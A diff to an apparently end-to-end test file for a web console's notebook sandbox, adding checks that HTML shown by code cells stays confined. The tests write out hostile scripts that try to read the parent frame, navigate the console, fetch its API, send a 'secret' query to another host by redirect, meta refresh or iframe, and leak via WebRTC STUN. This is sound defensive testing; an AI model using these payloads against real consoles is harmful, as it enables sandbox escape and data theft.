@@ -1,5 +1,7 @@
 // The notebook of a sandbox in the web console: code in real interpreters of the image modbox/data.
 import assert from "node:assert/strict";
+import { createSocket } from "node:dgram";
+import { once } from "node:events";
 import { test } from "node:test";
 import { begin, clean, console_, sandbox, server, shown, signInByToken, visit } from "./kit.mjs";
 
@@ -20,6 +22,8 @@ async function open(sb) {
 const cell = (page, n) => page.getByRole("region", { name: `Cell ${n}`, exact: true });
 const write = (page, n, code) => cell(page, n).getByRole("textbox", { name: "Code" }).fill(code);
 const output = (page, n) => page.getByRole("group", { name: `Output of cell ${n}` });
+/** html is the page with the HTML that cell n shows. */
+const html = (page, n) => output(page, n).frameLocator("iframe").frameLocator("iframe");
 const ended = (page, n, state) => cell(page, n).locator(".state", { hasText: state }).waitFor();
 
 test("cells share the state of their context, and show pictures and tables", async () => {
@@ -46,7 +50,7 @@ test("cells share the state of their context, and show pictures and tables", asy
 	await page.getByRole("button", { name: "Add a cell" }).click();
 	await write(page, 3, "from IPython.display import HTML, SVG, display\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\"><rect width=\"40\" height=\"20\"/></svg>'))\nHTML('<h4>Report</h4><style>h4 { color: rebeccapurple }</style><p id=\"p\">…</p><script>p.textContent = [1, 2].map((n) => n * 2)</script>')");
 	await page.keyboard.press("Control+Enter");
-	await output(page, 3).frameLocator("iframe").getByText("2,4").waitFor(); // its scripts run
+	await html(page, 3).getByText("2,4").waitFor(); // its scripts run
 	assert.equal(await output(page, 3).locator("img").evaluate((img) => img.decode().then(() => img.naturalWidth)), 40);
 
 	await page.getByRole("button", { name: "Add a cell" }).click();
@@ -112,8 +116,11 @@ test("code is interrupted, and a context is restarted; cells outlive the page", 
 	clean(page);
 });
 
+/** elsewhere is a page of a sandbox, whose host is one of those that the pages of the console may frame. */
+const elsewhere = (sb) => `http://8000-${sb.id}.localhost:${new URL(server).port}/`;
+
 /** hostile is HTML that tries to reach the console that shows it, and says what happened. */
-const hostile = `<p id="said"></p><script>(async () => {
+const hostile = (sb) => `<p id="said"></p><script>(async () => {
 	const got = {};
 	const attempt = async (name, f) => { try { got[name] = String(await f()); } catch { got[name] = "refused"; } };
 	const loaded = (e) => new Promise((done) => { e.onload = () => done("loaded"); e.onerror = () => done("refused"); document.head.append(e); });
@@ -129,6 +136,9 @@ const hostile = `<p id="said"></p><script>(async () => {
 	await attempt("script", () => loaded(Object.assign(document.createElement("script"), { src: "${console_}/v1/whoami" })));
 	await attempt("window", () => (window.open("${console_}/") ? "open" : "refused"));
 	await attempt("top", () => { top.location.href = "${server}/healthz"; return "gone"; });
+	await attempt("around", () => { parent.location.href = "${elsewhere(sb)}around"; return "gone"; });
+	await attempt("around it all", () => (parent.document.title, "read"));
+	await attempt("peer", () => new RTCPeerConnection());
 	said.textContent = JSON.stringify(got);
 })()</script>`;
 
@@ -137,21 +147,41 @@ test("HTML that code shows reaches neither the console nor another host", async 
 	const page = await open(sb);
 	const answered = []; // of the frames' requests
 	page.on("response", (r) => r.frame() !== page.mainFrame() && answered.push(r.url()));
-	await write(page, 1, `from IPython.display import HTML\nHTML(${JSON.stringify(hostile)})`);
+	await write(page, 1, `from IPython.display import HTML\nHTML(${JSON.stringify(hostile(sb))})`);
 	await page.keyboard.press("Control+Enter");
-	const said = output(page, 1).frameLocator("iframe").locator("#said:not(:empty)");
-	const got = JSON.parse(await said.textContent());
+	const got = JSON.parse(await html(page, 1).locator("#said:not(:empty)").textContent());
 	assert.equal(got.origin, "null");
 	for (const [what, result] of Object.entries(got)) assert.match(result, /^(null|refused)$/, `${what}: ${result}`);
 	assert.deepEqual(answered, [`${console_}/output.html`]);
 
-	// It cannot go to another page either, which would have the look of the console around it.
-	const violated = page.waitForEvent("console", (m) => /frame-src/.test(m.text()));
-	await page.getByRole("button", { name: "Add a cell" }).click();
-	await write(page, 2, `from IPython.display import HTML\nHTML("<p>before</p><script>location.href = '${server}/healthz'</script>")`);
-	await page.keyboard.press("Control+Enter");
-	await violated;
-	assert.deepEqual(answered, [`${console_}/output.html`, `${console_}/output.html`]);
+	// It cannot go to another page either, which would have the look of the console around it, and to which the address brings data.
+	for (const [i, go] of [`location.href = "${server}/healthz"`, `location.href = "${elsewhere(sb)}?secret"`, `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${elsewhere(sb)}?secret">'`,
+		`document.body.innerHTML = '<iframe src="${elsewhere(sb)}?secret"></iframe>'`].entries()) {
+		const violated = page.waitForEvent("console", (m) => /frame-src/.test(m.text()));
+		await page.getByRole("button", { name: "Add a cell" }).click();
+		await write(page, i + 2, `from IPython.display import HTML\nHTML(${JSON.stringify(`<p>before</p><script>${go}</script>`)})`);
+		await page.keyboard.press("Control+Enter");
+		await violated;
+		assert.deepEqual(answered, Array(i + 2).fill(`${console_}/output.html`));
+	}
 	assert.equal(new URL(page.url()).origin, console_);
 	await cell(page, 1).getByRole("button", { name: "Run cell 1" }).waitFor(); // the page works on
+});
+
+test("HTML that code shows sends nothing by WebRTC", async (t) => {
+	const sb = await shared();
+	const page = await open(sb);
+	const socket = createSocket("udp4");
+	t.after(() => socket.close());
+	let received = 0;
+	socket.on("message", () => received++);
+	socket.bind(0, "127.0.0.1");
+	await once(socket, "listening");
+	const send = `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${socket.address().port}" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o));`;
+	// A new frame has the interface that was taken from the window. The browser ends the page that uses it.
+	const crashed = page.waitForEvent("crash");
+	await write(page, 1, `from IPython.display import HTML\nHTML(${JSON.stringify(`<script>document.body.innerHTML = '<iframe></iframe>'; document.querySelector("iframe").srcdoc = ${JSON.stringify(`<script>${send}<\/script>`).replaceAll("</", "<\\/")}</script>`)})`);
+	await page.keyboard.press("Control+Enter");
+	await crashed;
+	assert.equal(received, 0, "packets");
 });
